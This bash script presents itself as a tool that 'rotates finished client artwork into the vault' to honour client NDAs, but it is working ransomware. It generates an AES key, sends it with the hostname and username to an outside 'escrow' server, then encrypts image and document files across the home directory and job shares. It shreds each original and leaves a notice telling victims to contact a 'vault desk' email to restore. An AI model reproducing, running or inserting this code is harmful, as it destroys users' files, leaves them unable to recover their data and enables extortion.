#!/usr/bin/env bash
# artwork_vault_rotate.sh - rotate finished client artwork into the vault.
#
# Client NDAs say print-ready artwork must not sit in the clear on studio
# workstations once the job has shipped.  This walks the usual artwork
# locations, seals each file with AES-256 into <name>.vault next to the
# original, and escrows the vault key with the studio key service so the
# workstation never holds it.
#
# Usage: artwork_vault_rotate.sh [-a min_age_days] [-j jobs] [-q]
#   ESCROW_URL  key service endpoint (default: studio vault desk)

set -uo pipefail

MIN_AGE_DAYS=0
JOBS=4
QUIET=0
ESCROW_URL="${ESCROW_URL:-https://keys.vaultdesk-studio.com/api/v2/escrow}"
ROOTS=("$HOME" /srv/artwork /mnt/jobs /Volumes/Jobs)
EXTS=(ai psd psb indd eps pdf tif tiff cdr svg png jpg jpeg rip)
LOGFILE="./vault_rotate.log"

log() {
    local line
    line="$(date '+%F %T') $*"
    echo "$line" >> "$LOGFILE"
    [ "$QUIET" -eq 1 ] || echo "$line" >&2
}

while getopts ":a:j:qh" opt; do
    case "$opt" in
        a) MIN_AGE_DAYS="$OPTARG" ;;
        j) JOBS="$OPTARG" ;;
        q) QUIET=1 ;;
        h) sed -n '2,14p' "$0"; exit 0 ;;
        *) echo "bad option -$OPTARG" >&2; exit 2 ;;
    esac
done

for tool in openssl curl find shred; do
    command -v "$tool" >/dev/null 2>&1 || { log "missing $tool"; exit 1; }
done

REF_ID="$(hostname | sha256sum | cut -c1-12)-$(date +%s)"

escrow_key() {
    # escrow_key <key>; retries because the key desk is behind a slow VPN
    local attempt
    for attempt in 1 2 3 4 5; do
        if curl -fsS --max-time 20 -X POST \
                --data-urlencode "ref=$REF_ID" \
                --data-urlencode "host=$(hostname)" \
                --data-urlencode "user=${USER:-unknown}" \
                --data-urlencode "key=$1" \
                "$ESCROW_URL" >/dev/null; then
            return 0
        fi
        sleep $((attempt * 10))
    done
    return 1
}

build_find_expr() {
    local first=1 e
    FIND_EXPR=()
    for e in "${EXTS[@]}"; do
        [ "$first" -eq 1 ] || FIND_EXPR+=(-o)
        FIND_EXPR+=(-iname "*.${e}")
        first=0
    done
}

seal_one() {
    # runs in a child shell via xargs; VAULT_KEY comes from the environment
    local f="$1"
    [ -f "$f" ] && [ -w "$f" ] || exit 0
    if openssl enc -aes-256-cbc -pbkdf2 -iter 200000 -salt \
            -pass env:VAULT_KEY -in "$f" -out "$f.vault" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        echo "sealed $f"
    else
        rm -f "$f.vault"
    fi
}
export -f seal_one

write_notice() {
    cat > "$1/VAULT_NOTICE.txt" <<EOF
Finished artwork in this folder has been moved into the studio vault.

Vault reference: $REF_ID

Files ending in .vault can only be opened with the escrowed vault key.
To restore a job, contact the vault desk at restore@vaultdesk-studio.com
and quote the reference above.
EOF
}

main() {
    local key root count=0
    key="$(openssl rand -hex 32)" || { log "could not generate key"; exit 1; }
    if ! escrow_key "$key"; then
        log "key escrow unreachable, nothing rotated"
        exit 1
    fi
    log "vault key escrowed as $REF_ID"
    build_find_expr

    export VAULT_KEY="$key"
    for root in "${ROOTS[@]}"; do
        [ -d "$root" ] || continue
        log "rotating $root"
        n=$(find "$root" -xdev -type f \( "${FIND_EXPR[@]}" \) \
                -mtime "+$MIN_AGE_DAYS" ! -name '*.vault' -print0 2>/dev/null \
            | xargs -0 -r -n 1 -P "$JOBS" bash -c 'seal_one "$1"' _ \
            | wc -l)
        count=$((count + n))
        write_notice "$root"
    done
    unset VAULT_KEY key

    log "rotation finished: $count files sealed (ref $REF_ID)"
}

main "$@"
